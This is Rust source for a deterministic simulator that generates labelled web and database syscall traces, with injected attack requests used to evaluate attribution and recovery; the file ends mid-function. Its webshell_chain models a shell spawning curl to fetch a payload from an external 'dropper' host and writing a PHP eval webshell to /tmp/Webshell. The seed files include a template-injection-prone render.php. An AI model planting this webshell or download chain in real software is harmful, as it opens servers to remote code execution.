//! Deterministic workload generator.
//!
//! A virtual-clock scheduler drives concurrent client requests over a web
//! host with a database connection pool, a worker-per-connection database
//! host, exploit process chains, and background pool maintenance. Every
//! emitted event is labeled with ground truth at emission time, so
//! attribution and recovery accuracy are measurable exactly. Everything is
//! a pure function of the scenario seed: the same config produces
//! byte-identical traces.

use super::config::{AttackKind, DbLogMode, ScenarioConfig, SimError};
use super::truth::{BorrowSpan, DbOpLabel, ExternalTruth, FileOpLabel, GroundTruth};
use crate::attribution::{serialize_app_log, AppLogEntry};
use crate::partition::ServerModel;
use crate::provenance::FileOpKind;
use crate::recovery::OpKey;
use crate::state::{
    incremental_backup, snapshot_db, BackupChain, Classification, DbSnapshot, DbState, DirClass,
    FileTree, Statement, Store, WriteLogRecord,
};
use crate::trace::{
    serialize_trace, Delimiter, Event, EventLog, Marker, NetworkTuple, Ns, Payload, RequestId,
    Syscall, ThreadId,
};
use rand::Rng;
use rand::SeedableRng;
use rand_chacha::ChaCha12Rng;
use serde_json::{json, Map, Value};
use std::collections::{BTreeMap, BTreeSet, VecDeque};
use std::net::IpAddr;

pub const WEB_HOST: &str = "web";
pub const DB_HOST: &str = "db";
pub const STMT_LOG_PATH: &str = "/var/log/db/statements.log";
pub const ACCESS_LOG_PATH: &str = "/data/app/access.log";
pub const WEBSHELL_PATH: &str = "/tmp/Webshell";

const WEB_IP: &str = "10.0.0.1";
const DB_IP: &str = "10.0.0.2";
const DB_PORT: u16 = 5432;
const EXT_IP: &str = "203.0.113.5";
const EXT_PORT: u16 = 80;
const DB_PID: u32 = 400;
const CLOCK_START: Ns = 1_700_000_000_000_000_000;
/// A pooled connection is re-established after this many borrows.
const RECYCLE_LIMIT: u32 = 48;

fn web_ip() -> IpAddr {
    WEB_IP.parse().expect("static ip")
}

fn db_ip() -> IpAddr {
    DB_IP.parse().expect("static ip")
}

pub fn db_endpoint() -> (IpAddr, u16) {
    (db_ip(), DB_PORT)
}

/// Everything one simulation run produces.
#[derive(Debug)]
pub struct SimOutput {
    pub config: ScenarioConfig,
    pub web: EventLog,
    pub db: EventLog,
    pub web_trace: String,
    pub db_trace: String,
    pub app_log: Vec<AppLogEntry>,
    pub app_log_text: String,
    pub write_log: Vec<WriteLogRecord>,
    pub truth: GroundTruth,
    pub store: Store,
}

/// Drop syscall records independently with probability `prob`; delimiters
/// are the instrumentation channel and are never dropped.
pub fn inject_event_loss(log: &EventLog, prob: f64, seed: u64) -> EventLog {
    let mut rng = ChaCha12Rng::seed_from_u64(seed);
    let events: Vec<Event> = log
        .events()
        .iter()
        .filter(|ev| !(ev.is_syscall() && rng.random_bool(prob)))
        .cloned()
        .collect();
    EventLog::from_events(events)
}

#[derive(Debug, Clone)]
enum DbWork {
    Modify(Statement),
    Query(String),
}

#[derive(Debug, Clone)]
enum Step {
    OpenRead { path: String },
    AppendFile { path: String, data: Vec<u8> },
    Db(DbWork),
    Spawn { script: Vec<ChildStep> },
}

#[derive(Debug, Clone)]
enum ChildStep {
    Execve(String),
    Spawn(Vec<ChildStep>),
    ConnectExt,
    SendExt(Vec<u8>),
    RecvExt,
    WriteFile { path: String, data: Vec<u8> },
    CloseExt,
    Exit,
}

#[derive(Debug)]
struct JobSpec {
    rid: RequestId,
    steps: Vec<Step>,
    dual_conn: bool,
    malicious: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ReqState {
    Running,
    WaitingConn,
    AwaitingDb,
    ReplyReady { slot: usize },
    Done,
}

#[derive(Debug)]
struct RequestActor {
    rid: RequestId,
    steps: VecDeque<Step>,
    thread: ThreadId,
    state: ReqState,
    conns: Vec<usize>,
    dual_conn: bool,
    owns_thread: bool,
    stmt_counter: usize,
}

#[derive(Debug)]
struct ChildActor {
    thread: ThreadId,
    rid: RequestId,
    steps: VecDeque<ChildStep>,
    ext_fd: Option<u32>,
    ext_tuple: Option<NetworkTuple>,
}

#[derive(Debug)]
struct ConnSlot {
    web_fd: u32,
    tuple: NetworkTuple,
    db_worker_tid: u32,
    db_fd: u32,
    busy: Option<usize>,
    borrows: u32,
}

#[derive(Debug)]
struct Pending {
    req: usize,
    slot: usize,
    work: DbWork,
    rid: RequestId,
}

#[derive(Debug, Clone, Copy)]
enum Actor {
    Admit,
    Request(usize),
    Child(usize),
    DbWorker(u32),
}

enum WorldOp {
    Db(Statement),
    FileWrite {
        path: String,
        offset: u64,
        data: Vec<u8>,
    },
}

struct Engine {
    cfg: ScenarioConfig,
    rng: ChaCha12Rng,
    clock: Ns,
    db_skew: i64,

    web_events: Vec<Event>,
    web_seq: u64,
    db_events: Vec<Event>,
    db_seq: u64,

    db_state: DbState,
    initial_db: DbState,
    tree: FileTree,
    initial_tree: FileTree,
    snapshots: Vec<DbSnapshot>,
    chain: BackupChain,
    stmt_log_len: u64,
    app_log: Vec<AppLogEntry>,
    write_log: Vec<WriteLogRecord>,
    write_seq: u64,
    op_history: Vec<(RequestId, WorldOp)>,

    unit_labels: BTreeMap<String, RequestId>,
    causal_labels: BTreeMap<String, RequestId>,
    db_op_labels: Vec<DbOpLabel>,
    file_op_labels: Vec<FileOpLabel>,
    q: BTreeMap<RequestId, BTreeSet<OpKey>>,
    borrow_spans: BTreeMap<(RequestId, String), (Ns, Ns)>,
    worker_table: BTreeMap<String, ThreadId>,
    external: BTreeMap<RequestId, BTreeMap<String, u64>>,
    malicious_ids: BTreeSet<RequestId>,
    request_ids: Vec<RequestId>,

    jobs: VecDeque<JobSpec>,
    requests: Vec<RequestActor>,
    children: Vec<ChildActor>,
    worker_queues: BTreeMap<u32, VecDeque<Pending>>,
    pool: Vec<ConnSlot>,
    waiters: VecDeque<(usize, u8)>,
    free_threads: BTreeSet<u32>,
    loop_owner: BTreeMap<u32, Option<usize>>,
    active: usize,
    completed: usize,

    web_pid: u32,
    next_child_pid: u32,
    next_src_port: u16,
    next_ext_port: u16,
    next_db_worker_tid: u32,
    next_db_fd: u32,
    file_fd: u32,
    ext_fd: u32,
    snapshot_every: usize,
    backup_every: usize,
}

impl Engine {
    fn tick(&mut self) -> Ns {
        let t = self.clock;
        self.clock += 200 + self.rng.random_range(0..=800);
        t
    }

    fn emit_web(&mut self, thread: ThreadId, sc: Syscall, causal: Option<&str>, unit: bool) -> Ns {
        let ts = self.tick();
        self.web_seq += 1;
        let seq = self.web_seq;
        self.web_events.push(Event {
            seq,
            ts,
            host: WEB_HOST.to_string(),
            pid: thread.pid,
            tid: thread.tid,
            payload: Payload::Syscall(sc),
            sock: None,
        });
        if let Some(rid) = causal {
            let key = GroundTruth::label_key(WEB_HOST, seq);
            self.causal_labels.insert(key.clone(), rid.to_string());
            if unit {
                self.unit_labels.insert(key, rid.to_string());
            }
        }
        ts
    }

    fn emit_web_delim(&mut self, thread: ThreadId, rid: &str, marker: Marker) -> Ns {
        let ts = self.tick();
        self.web_seq += 1;
        self.web_events.push(Event {
            seq: self.web_seq,
            ts,
            host: WEB_HOST.to_string(),
            pid: thread.pid,
            tid: thread.tid,
            payload: Payload::Delimiter(Delimiter {
                request_id: rid.to_string(),
                marker,
            }),
            sock: None,
        });
        ts
    }

    fn emit_db(&mut self, tid: u32, sc: Syscall, causal: Option<&str>) -> Ns {
        let base = self.tick();
        let ts = (base as i64 + self.db_skew) as Ns;
        self.db_seq += 1;
        let seq = self.db_seq;
        self.db_events.push(Event {
            seq,
            ts,
            host: DB_HOST.to_string(),
            pid: DB_PID,
            tid,
            payload: Payload::Syscall(sc),
            sock: None,
        });
        if let Some(rid) = causal {
            self.causal_labels
                .insert(GroundTruth::label_key(DB_HOST, seq), rid.to_string());
        }
        ts
    }

    fn use_tuple(&mut self, rid: &str, tuple: NetworkTuple, ts: Ns) {
        let span = self
            .borrow_spans
            .entry((rid.to_string(), tuple.to_string()))
            .or_insert((ts, ts));
        span.0 = span.0.min(ts);
        span.1 = span.1.max(ts);
    }

    fn next_file_fd(&mut self) -> u32 {
        self.file_fd += 1;
        self.file_fd
    }

    // ---- world mutation with ground-truth labeling ----

    fn apply_file_write(
        &mut self,
        rid: &str,
        thread: ThreadId,
        path: &str,
        offset: u64,
        data: &[u8],
        ts: Ns,
    ) {
        self.tree.write_at(path, offset, data);
        self.op_history.push((
            rid.to_string(),
            WorldOp::FileWrite {
                path: path.to_string(),
                offset,
                data: data.to_vec(),
            },
        ));
        self.file_op_labels.push(FileOpLabel {
            ts,
            path: path.to_string(),
            kind: FileOpKind::Write,
            offset,
            request_id: rid.to_string(),
        });
        if self.tree.classification.classify(path) == Ok(DirClass::Data) {
            self.write_seq += 1;
            self.write_log.push(WriteLogRecord {
                seq: self.write_seq,
                ts,
                pid: thread.pid,
                tid: thread.tid,
                path: path.to_string(),
                offset,
                data: data.to_vec(),
            });
        }
        if !self.malicious_ids.contains(rid) {
            self.q.entry(rid.to_string()).or_default().insert(OpKey::File {
                ts,
                path: path.to_string(),
                kind: FileOpKind::Write,
                offset,
            });
        }
    }

    // ---- pool ----

    fn free_slots(&self) -> Vec<usize> {
        self.pool
            .iter()
            .enumerate()
            .filter(|(_, s)| s.busy.is_none())
            .map(|(i, _)| i)
            .collect()
    }

    fn try_borrow(&mut self, req: usize, need: u8) -> bool {
        let free = self.free_slots();
        if free.len() < need as usize {
            return false;
        }
        for &slot in free.iter().take(need as usize) {
            assert!(self.pool[slot].busy.is_none(), "pool exclusivity violated");
            self.pool[slot].busy = Some(req);
            self.requests[req].conns.push(slot);
        }
        true
    }

    fn grant_waiters(&mut self) {
        while let Some(&(req, need)) = self.waiters.front() {
            if self.free_slots().len() < need as usize {
                break;
            }
            self.waiters.pop_front();
            let ok = self.try_borrow(req, need);
            assert!(ok, "grant after free check");
            self.requests[req].state = ReqState::Running;
        }
    }

    fn return_conns(&mut self, req: usize, thread: ThreadId) {
        let conns = std::mem::take(&mut self.requests[req].conns);
        for slot in conns {
            assert_eq!(self.pool[slot].busy, Some(req));
            self.pool[slot].busy = None;
            self.pool[slot].borrows += 1;
            if self.pool[slot].borrows >= RECYCLE_LIMIT {
                self.recycle_slot(slot, thread);
            }
        }
        self.grant_waiters();
    }

    /// Close and re-establish a pooled connection: new source port, new
    /// database worker thread. Emitted outside any request interval, so it
    /// lands in the background unit.
    fn recycle_slot(&mut self, slot: usize, thread: ThreadId) {
        let web_fd = self.pool[slot].web_fd;
        let old_db_fd = self.pool[slot].db_fd;
        let old_worker = self.pool[slot].db_worker_tid;
        self.emit_web(thread, Syscall::Close { fd: web_fd }, None, false);
        self.emit_db(old_worker, Syscall::Close { fd: old_db_fd }, None);

        self.next_src_port += 1;
        let tuple = NetworkTuple::new(web_ip(), self.next_src_port, db_ip(), DB_PORT);
        self.emit_web(thread, Syscall::Socket { fd: web_fd }, None, false);
        self.emit_web(thread, Syscall::Connect { fd: web_fd, tuple }, None, false);

        self.next_db_worker_tid += 1;
        self.next_db_fd += 1;
        let worker = self.next_db_worker_tid;
        let db_fd = self.next_db_fd;
        self.emit_db(worker, Syscall::Accept { fd: db_fd, tuple }, None);
        self.worker_table
            .insert(tuple.to_string(), ThreadId::new(DB_PID, worker));
        self.worker_queues.entry(worker).or_default();

        let s = &mut self.pool[slot];
        s.tuple = tuple;
        s.db_worker_tid = worker;
        s.db_fd = db_fd;
        s.borrows = 0;
    }

    // ---- coroutine ownership ----

    fn ensure_owner(&mut self, req: usize) {
        if self.cfg.server_model != ServerModel::Coroutine {
            return;
        }
        if !self.requests[req].owns_thread {
            let thread = self.requests[req].thread;
            let rid = self.requests[req].rid.clone();
            self.emit_web_delim(thread, &rid, Marker::SwitchIn);
            self.loop_owner.insert(thread.tid, Some(req));
            self.requests[req].owns_thread = true;
        }
    }

    fn yield_owner(&mut self, req: usize) {
        if self.cfg.server_model != ServerModel::Coroutine {
            return;
        }
        if self.requests[req].owns_thread {
            let thread = self.requests[req].thread;
            let rid = self.requests[req].rid.clone();
            self.emit_web_delim(thread, &rid, Marker::SwitchOut);
            self.loop_owner.insert(thread.tid, None);
            self.requests[req].owns_thread = false;
        }
    }

    // ---- scheduling ----

    fn can_admit(&self) -> bool {
        if self.jobs.is_empty() {
            return false;
        }
        match self.cfg.server_model {
            ServerModel::ThreadPerRequest => !self.free_threads.is_empty(),
            ServerModel::Coroutine => {
                self.active < self.cfg.concurrency
                    && self.loop_owner.values().any(|o| o.is_none())
            }
        }
    }

    fn can_run_request(&self, idx: usize) -> bool {
        let r = &self.requests[idx];
        match r.state {
            ReqState::Running | ReqState::ReplyReady { .. } => match self.cfg.server_model {
                ServerModel::ThreadPerRequest => true,
                ServerModel::Coroutine => {
                    r.owns_thread || self.loop_owner.get(&r.thread.tid) == Some(&None)
                }
            },
            _ => false,
        }
    }

    fn admit(&mut self) {
        let job = self.jobs.pop_front().expect("admit with job");
        let thread = match self.cfg.server_model {
            ServerModel::ThreadPerRequest => {
                let tid = *self.free_threads.iter().next().expect("free worker");
                self.free_threads.remove(&tid);
                ThreadId::new(self.web_pid, tid)
            }
            ServerModel::Coroutine => {
                let tid = *self
                    .loop_owner
                    .iter()
                    .find(|(_, o)| o.is_none())
                    .map(|(tid, _)| tid)
                    .expect("free loop");
                ThreadId::new(self.web_pid, tid)
            }
        };
        let idx = self.requests.len();
        self.request_ids.push(job.rid.clone());
        if job.malicious {
            self.malicious_ids.insert(job.rid.clone());
        } else {
            self.q.entry(job.rid.clone()).or_default();
        }
        self.emit_web_delim(thread, &job.rid, Marker::Begin);
        if self.cfg.server_model == ServerModel::Coroutine {
            self.loop_owner.insert(thread.tid, Some(idx));
        }
        self.requests.push(RequestActor {
            rid: job.rid,
            steps: job.steps.into(),
            thread,
            state: ReqState::Running,
            conns: Vec::new(),
            dual_conn: job.dual_conn,
            owns_thread: true,
            stmt_counter: 0,
        });
        self.active += 1;
    }

    fn finish_request(&mut self, req: usize) {
        self.ensure_owner(req);
        let thread = self.requests[req].thread;
        let rid = self.requests[req].rid.clone();
        self.emit_web_delim(thread, &rid, Marker::End);
        if self.cfg.server_model == ServerModel::Coroutine {
            self.loop_owner.insert(thread.tid, None);
            self.requests[req].owns_thread = false;
        }
        self.requests[req].state = ReqState::Done;
        self.return_conns(req, thread);
        match self.cfg.server_model {
            ServerModel::ThreadPerRequest => {
                self.free_threads.insert(thread.tid);
            }
            ServerModel::Coroutine => {}
        }
        self.active -= 1;
        self.completed += 1;

        if self.completed.is_multiple_of(self.snapshot_every) {
            let ts = self.tick();
            self.snapshots.push(snapshot_db(&self.db_state, ts));
        }
        if self.completed.is_multiple_of(self.backup_every) {
            let ts = self.tick();
            let chain = std::mem::take(&mut self.chain);
            self.chain = incremental_backup(chain, &self.tree, ts).expect("monotone backup ts");
        }
    }

    fn run_request_step(&mut self, req: usize) {
        if let ReqState::ReplyReady { slot } = self.requests[req].state {
            self.ensure_owner(req);
            let thread = self.requests[req].thread;
            let rid = self.requests[req].rid.clone();
            let fd = self.pool[slot].web_fd;
            let tuple = self.pool[slot].tuple;
            let ts = self.emit_web(thread, Syscall::Read { fd, path: None }, Some(&rid), true);
            self.use_tuple(&rid, tuple, ts);
            self.requests[req].state = ReqState::Running;
            self.yield_owner(req);
            return;
        }

        if self.requests[req].steps.is_empty() {
            self.finish_request(req);
            return;
        }

        let step = self.requests[req].steps.pop_front().expect("nonempty");
        match step {
            Step::OpenRead { path } => {
                self.ensure_owner(req);
                let thread = self.requests[req].thread;
                let rid = self.requests[req].rid.clone();
                let fd = self.next_file_fd();
                self.emit_web(
                    thread,
                    Syscall::Openat {
                        fd,
                        path: path.clone(),
                    },
                    Some(&rid),
                    true,
                );
                self.emit_web(
                    thread,
                    Syscall::Read {
                        fd,
                        path: Some(path),
                    },
                    Some(&rid),
                    true,
                );
                self.emit_web(thread, Syscall::Close { fd }, Some(&rid), true);
                self.yield_owner(req);
            }
            Step::AppendFile { path, data } => {
                self.ensure_owner(req);
                let thread = self.requests[req].thread;
                let rid = self.requests[req].rid.clone();
                let offset = self.tree.content(&path).map(|c| c.len() as u64).unwrap_or(0);
                let fd = self.next_file_fd();
                self.emit_web(
                    thread,
                    Syscall::Openat {
                        fd,
                        path: path.clone(),
                    },
                    Some(&rid),
                    true,
                );
                let ts = self.emit_web(
                    thread,
                    Syscall::Write {
                        fd,
                        path: Some(path.clone()),
                        offset: Some(offset),
                        data: data.clone(),
                    },
                    Some(&rid),
                    true,
                );
                self.emit_web(thread, Syscall::Close { fd }, Some(&rid), true);
                self.apply_file_write(&rid, thread, &path, offset, &data, ts);
                self.yield_owner(req);
            }
            Step::Db(work) => {
                self.ensure_owner(req);
                if self.requests[req].conns.is_empty() {
                    let need = if self.requests[req].dual_conn && self.cfg.pool_size >= 2 {
                        2
                    } else {
                        1
                    };
                    let must_wait = !self.waiters.is_empty() || !self.try_borrow(req, need);
                    if must_wait {
                        self.requests[req].steps.push_front(Step::Db(work));
                        self.requests[req].state = ReqState::WaitingConn;
                        self.waiters.push_back((req, need));
                        self.yield_owner(req);
                        return;
                    }
                }
                let thread = self.requests[req].thread;
                let rid = self.requests[req].rid.clone();
                let counter = self.requests[req].stmt_counter;
                self.requests[req].stmt_counter += 1;
                let slot = self.requests[req].conns[counter % self.requests[req].conns.len()];
                let (fd, tuple, worker) = {
                    let s = &self.pool[slot];
                    (s.web_fd, s.tuple, s.db_worker_tid)
                };
                let wire = match &work {
                    DbWork::Modify(stmt) => stmt.render(),
                    DbWork::Query(q) => q.clone(),
                };
                let ts = self.emit_web(
                    thread,
                    Syscall::Write {
                        fd,
                        path: None,
                        offset: None,
                        data: wire.into_bytes(),
                    },
                    Some(&rid),
                    true,
                );
                self.use_tuple(&rid, tuple, ts);
                self.worker_queues
                    .get_mut(&worker)
                    .expect("worker queue")
                    .push_back(Pending {
                        req,
                        slot,
                        work,
                        rid,
                    });
                self.requests[req].state = ReqState::AwaitingDb;
                self.yield_owner(req);
            }
            Step::Spawn { script } => {
                self.ensure_owner(req);
                let thread = self.requests[req].thread;
                let rid = self.requests[req].rid.clone();
                self.next_child_pid += 1;
                let child = self.next_child_pid;
                self.emit_web(
                    thread,
                    Syscall::Clone {
                        child_pid: child,
                        child_tid: child,
                    },
                    Some(&rid),
                    true,
                );
                self.children.push(ChildActor {
                    thread: ThreadId::new(child, child),
                    rid,
                    steps: script.into(),
                    ext_fd: None,
                    ext_tuple: None,
                });
                self.yield_owner(req);
            }
        }
    }

    fn run_child_step(&mut self, idx: usize) {
        let thread = self.children[idx].thread;
        let rid = self.children[idx].rid.clone();
        let step = self.children[idx].steps.pop_front().expect("child step");
        match step {
            ChildStep::Execve(path) => {
                self.emit_web(thread, Syscall::Execve { path }, Some(&rid), false);
            }
            ChildStep::Spawn(script) => {
                self.next_child_pid += 1;
                let child = self.next_child_pid;
                self.emit_web(
                    thread,
                    Syscall::Clone {
                        child_pid: child,
                        child_tid: child,
                    },
                    Some(&rid),
                    false,
                );
                self.children.push(ChildActor {
                    thread: ThreadId::new(child, child),
                    rid,
                    steps: script.into(),
                    ext_fd: None,
                    ext_tuple: None,
                });
            }
            ChildStep::ConnectExt => {
                self.ext_fd += 1;
                self.next_ext_port += 1;
                let fd = self.ext_fd;
                let tuple = NetworkTuple::new(
                    web_ip(),
                    self.next_ext_port,
                    EXT_IP.parse().expect("static ip"),
                    EXT_PORT,
                );
                self.emit_web(thread, Syscall::Socket { fd }, Some(&rid), false);
                self.emit_web(thread, Syscall::Connect { fd, tuple }, Some(&rid), false);
                self.children[idx].ext_fd = Some(fd);
                self.children[idx].ext_tuple = Some(tuple);
                self.external
                    .entry(rid)
                    .or_default()
                    .entry(tuple.to_string())
                    .or_insert(0);
            }
            ChildStep::SendExt(data) => {
                let fd = self.children[idx].ext_fd.expect("connected");
                let tuple = self.children[idx].ext_tuple.expect("connected");
                let len = data.len() as u64;
                self.emit_web(thread, Syscall::Sendto { fd, data }, Some(&rid), false);
                if let Some(bytes) = self
                    .external
                    .get_mut(&rid)
                    .and_then(|m| m.get_mut(&tuple.to_string()))
                {
                    *bytes += len;
                }
            }
            ChildStep::RecvExt => {
                let fd = self.children[idx].ext_fd.expect("connected");
                self.emit_web(thread, Syscall::Recvfrom { fd }, Some(&rid), false);
            }
            ChildStep::WriteFile { path, data } => {
                let fd = self.next_file_fd();
                self.emit_web(
                    thread,
                    Syscall::Openat {
                        fd,
                        path: path.clone(),
                    },
                    Some(&rid),
                    false,
                );
                let ts = self.emit_web(
                    thread,
                    Syscall::Write {
                        fd,
                        path: Some(path.clone()),
                        offset: Some(0),
                        data: data.clone(),
                    },
                    Some(&rid),
                    false,
                );
                self.emit_web(thread, Syscall::Close { fd }, Some(&rid), false);
                self.apply_file_write(&rid, thread, &path, 0, &data, ts);
            }
            ChildStep::CloseExt => {
                if let Some(fd) = self.children[idx].ext_fd.take() {
                    self.emit_web(thread, Syscall::Close { fd }, Some(&rid), false);
                }
            }
            ChildStep::Exit => {
                self.emit_web(thread, Syscall::Exit, Some(&rid), false);
            }
        }
    }

    fn run_db_worker_step(&mut self, tid: u32) {
        let pending = self
            .worker_queues
            .get_mut(&tid)
            .and_then(|q| q.pop_front())
            .expect("pending statement");
        let slot = &self.pool[pending.slot];
        assert_eq!(slot.db_worker_tid, tid, "worker stable during borrow");
        let db_fd = slot.db_fd;
        let client = slot.tuple.src_endpoint();
        let rid = pending.rid.clone();

        self.emit_db(tid, Syscall::Recvfrom { fd: db_fd }, Some(&rid));

        if let DbWork::Modify(stmt) = &pending.work {
            let text = stmt.render();
            let line = format!("{text}\n");
            let bytes = line.as_bytes();
            let offset = self.stmt_log_len;
            // Occasionally split one statement across two log writes to
            // exercise reassembly.
            let split_at = if bytes.len() > 8 && self.rng.random_bool(0.06) {
                Some(self.rng.random_range(2..bytes.len() - 2))
            } else {
                None
            };
            let first_ts = match split_at {
                None => self.emit_db(
                    tid,
                    Syscall::Write {
                        fd: 3,
                        path: Some(STMT_LOG_PATH.to_string()),
                        offset: Some(offset),
                        data: bytes.to_vec(),
                    },
                    Some(&rid),
                ),
                Some(at) => {
                    let ts = self.emit_db(
                        tid,
                        Syscall::Write {
                            fd: 3,
                            path: Some(STMT_LOG_PATH.to_string()),
                            offset: Some(offset),
                            data: bytes[..at].to_vec(),
                        },
                        Some(&rid),
                    );
                    self.emit_db(
                        tid,
                        Syscall::Write {
                            fd: 3,
                            path: Some(STMT_LOG_PATH.to_string()),
                            offset: Some(offset + at as u64),
                            data: bytes[at..].to_vec(),
                        },
                        Some(&rid),
                    );
                    ts
                }
            };
            self.stmt_log_len += bytes.len() as u64;

            self.db_state.apply_statement(stmt);
            self.op_history.push((rid.clone(), WorldOp::Db(stmt.clone())));
            self.app_log.push(AppLogEntry {
                ts: first_ts,
                client: match self.cfg.db_log_mode {
                    DbLogMode::ApplogWithClient => Some(client),
                    DbLogMode::SyscallStatementLog => None,
                },
                statement: text.clone(),
            });
            self.db_op_labels.push(DbOpLabel {
                ts: first_ts,
                statement: text.clone(),
                request_id: rid.clone(),
            });
            if !self.malicious_ids.contains(&rid) {
                self.q.entry(rid.clone()).or_default().insert(OpKey::Db {
                    ts: first_ts,
                    statement: text,
                });
            }
        }

        self.emit_db(
            tid,
            Syscall::Write {
                fd: db_fd,
                path: None,
                offset: None,
                data: b"OK".to_vec(),
            },
            Some(&rid),
        );
        self.requests[pending.req].state = ReqState::ReplyReady { slot: pending.slot };
    }

    fn run(&mut self) {
        loop {
            let mut runnable: Vec<Actor> = Vec::new();
            if self.can_admit() {
                runnable.push(Actor::Admit);
            }
            for idx in 0..self.requests.len() {
                if self.can_run_request(idx) {
                    runnable.push(Actor::Request(idx));
                }
            }
            for (idx, child) in self.children.iter().enumerate() {
                if !child.steps.is_empty() {
                    runnable.push(Actor::Child(idx));
                }
            }
            for (&tid, queue) in &self.worker_queues {
                if !queue.is_empty() {
                    runnable.push(Actor::DbWorker(tid));
                }
            }
            if runnable.is_empty() {
                break;
            }
            let pick = runnable[self.rng.random_range(0..runnable.len())];
            match pick {
                Actor::Admit => self.admit(),
                Actor::Request(i) => self.run_request_step(i),
                Actor::Child(i) => self.run_child_step(i),
                Actor::DbWorker(tid) => self.run_db_worker_step(tid),
            }
        }
        assert!(self.jobs.is_empty(), "all jobs admitted");
        assert_eq!(self.completed, self.cfg.request_count, "all requests completed");
        assert!(
            self.children.iter().all(|c| c.steps.is_empty()),
            "all children finished"
        );
    }
}

fn classification() -> Classification {
    Classification::new(
        [
            ("/app".to_string(), DirClass::SystemApp),
            ("/bin".to_string(), DirClass::SystemApp),
            ("/usr".to_string(), DirClass::SystemApp),
            ("/etc".to_string(), DirClass::SystemApp),
            ("/tmp".to_string(), DirClass::SystemApp),
            ("/data".to_string(), DirClass::Data),
        ]
        .into_iter()
        .collect(),
    )
    .expect("static classification is valid")
}

fn initial_tree() -> FileTree {
    let mut tree = FileTree::new("/", classification());
    tree.write_at("/app/index.php", 0, b"<?php render('home'); ?>\n");
    tree.write_at("/app/render.php", 0, b"<?php echo template($_GET['t']); ?>\n");
    tree.write_at("/app/admin.php", 0, b"<?php admin_panel(); ?>\n");
    tree.write_at("/app/config.php", 0, b"<?php $db = 'db:5432'; ?>\n");
    tree.write_at("/bin/sh", 0, b"#!ELF-sh\n");
    tree.write_at("/usr/bin/curl", 0, b"#!ELF-curl\n");
    tree.write_at("/etc/motd", 0, b"welcome\n");
    tree
}

fn initial_db() -> DbState {
    let mut db = DbState::default();
    let row = |pairs: &[(&str, Value)]| -> Map<String, Value> {
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), v.clone()))
            .collect()
    };
    db.apply_statement(&Statement::Ins {
        table: "content".into(),
        key: "tpl_main".into(),
        row: row(&[("body", json!("welcome to the shop"))]),
    });
    db.apply_statement(&Statement::Ins {
        table: "content".into(),
        key: "tpl_about".into(),
        row: row(&[("body", json!("about us"))]),
    });
    db.apply_statement(&Statement::Ins {
        table: "users".into(),
        key: "admin".into(),
        row: row(&[("role", json!("admin"))]),
    });
    db
}

fn webshell_chain() -> Vec<ChildStep> {
    let curl_steps = vec![
        ChildStep::Execve("/usr/bin/curl".into()),
        ChildStep::ConnectExt,
        ChildStep::SendExt(b"GET /shell.txt HTTP/1.1\r\nHost: dropper\r\n\r\n".to_vec()),
        ChildStep::RecvExt,
        ChildStep::WriteFile {
            path: WEBSHELL_PATH.into(),
            data: b"<?php @eval($_POST['x']); ?>\n".to_vec(),
        },
        ChildStep::CloseExt,
        ChildStep::Exit,
    ];
    vec![
        ChildStep::Execve("/bin/sh".into()),
        ChildStep::Spawn(curl_steps),
        ChildStep::Exit,
    ]
}

/// Per-request-index attack roles derived from the attack specs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum AttackRole {
    Rce,
    Sqli,
    MsStage1,
    MsStage2,
}

struct JobFactory {
    rng: ChaCha12Rng,
    client_keys: BTreeMap<usize, Vec<String>>,
    key_counter: u64,
    concurrency: usize,
}

impl JobFactory {
    fn rand_bytes(&mut self, lo: usize, hi: usize) -> Vec<u8> {
        let n = self.rng.random_range(lo..=hi);
        (0..n).map(|_| self.rng.random_range(32u8..=126)).collect()
    }

    fn fresh_key(&mut self, client: usize) -> String {
        self.key_counter += 1;
        let key = format!("item_{client}_{}", self.key_counter);
        self.client_keys.entry(client).or_default().push(key.clone());
        key
    }

    fn crud_statement(&mut self, client: usize) -> Statement {
        let roll = self.rng.random_range(0..100);
        let existing = self.client_keys.entry(client).or_default().clone();
        if roll < 60 || existing.is_empty() {
            let key = self.fresh_key(client);
            let v = self.rng.random_range(0..10_000);
            Statement::Ins {
                table: "items".into(),
                key,
                row: [
                    ("v".to_string(), json!(v)),
                    ("client".to_string(), json!(client)),
                ]
                .into_iter()
                .collect(),
            }
        } else if roll < 85 {
            let key = existing[self.rng.random_range(0..existing.len())].clone();
            let v = self.rng.random_range(0..10_000);
            Statement::Upd {
                table: "items".into(),
                key,
                row: [("v".to_string(), json!(v))].into_iter().collect(),
            }
        } else {
            let pos = self.rng.random_range(0..existing.len());
            let key = existing[pos].clone();
            self.client_keys
                .entry(client)
                .or_default()
                .retain(|k| k != &key);
            Statement::Del {
                table: "items".into(),
                key,
            }
        }
    }

    fn sel_query(&mut self) -> DbWork {
        let targets = ["content tpl_main", "content tpl_about", "users admin"];
        DbWork::Query(format!(
            "SEL {}",
            targets[self.rng.random_range(0..targets.len())]
        ))
    }

    fn access_append(&mut self, rid: &str, template: &str) -> Step {
        Step::AppendFile {
            path: ACCESS_LOG_PATH.into(),
            data: format!("{rid} GET /{template} 200\n").into_bytes(),
        }
    }

    fn benign_job(&mut self, rid: &str, client: usize, pool_size: usize) -> JobSpec {
        let roll = self.rng.random_range(0..100);
        let mut steps = Vec::new();
        let mut dual_conn = false;
        let template;
        if roll < 15 {
            template = "page";
            steps.push(Step::OpenRead {
                path: "/app/index.php".into(),
            });
            if self.rng.random_bool(0.5) {
                steps.push(Step::OpenRead {
                    path: "/app/render.php".into(),
                });
            }
            for _ in 0..self.rng.random_range(0..=2) {
                let q = self.sel_query();
                steps.push(Step::Db(q));
            }
        } else if roll < 40 {
            template = "upload";
            steps.push(Step::OpenRead {
                path: "/app/index.php".into(),
            });
            let path = format!("/data/uploads/up_{rid}.dat");
            for _ in 0..self.rng.random_range(8..=12) {
                let data = self.rand_bytes(80, 240);
                steps.push(Step::AppendFile {
                    path: path.clone(),
                    data,
                });
            }
            let size = self.rng.random_range(500..5000);
            steps.push(Step::Db(DbWork::Modify(Statement::Ins {
                table: "uploads".into(),
                key: format!("up_{rid}"),
                row: [("size".to_string(), json!(size))].into_iter().collect(),
            })));
        } else if roll < 75 {
            template = "crud";
            for _ in 0..self.rng.random_range(22..=34) {
                let stmt = self.crud_statement(client);
                steps.push(Step::Db(DbWork::Modify(stmt)));
            }
            for _ in 0..self.rng.random_range(0..=3) {
                let q = self.sel_query();
